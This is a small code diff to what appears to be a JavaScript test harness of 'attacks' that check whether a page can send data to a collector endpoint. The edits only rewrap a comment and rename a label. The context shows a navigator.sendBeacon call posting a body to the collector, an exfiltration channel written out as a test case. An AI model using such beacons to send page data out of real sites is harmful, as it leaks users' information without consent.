@@ -1,6 +1,6 @@
 /**
- * Attacks that ask the collector something and look at the answer. Each function is sent to the page as its source, so it
- * knows nothing but what it is given.
+ * Attacks that ask the collector something and look at the answer. Each function is sent to the page as its source, so
+ * it knows nothing but what it is given.
  */
 
 /** @param {string} credentials @returns {import("./attack.js").Attack} */
@@ -151,7 +151,7 @@ export const BY_REQUEST = [
     },
   ],
   [
-    "sendBeacon and what performance tells of it",
+    "sendBeacon and what performance shows of it",
     async ({ collector, body }) => {
       navigator.sendBeacon(`${collector}/v1/beacon`, body);
       await new Promise((later) => setTimeout(later, 300));
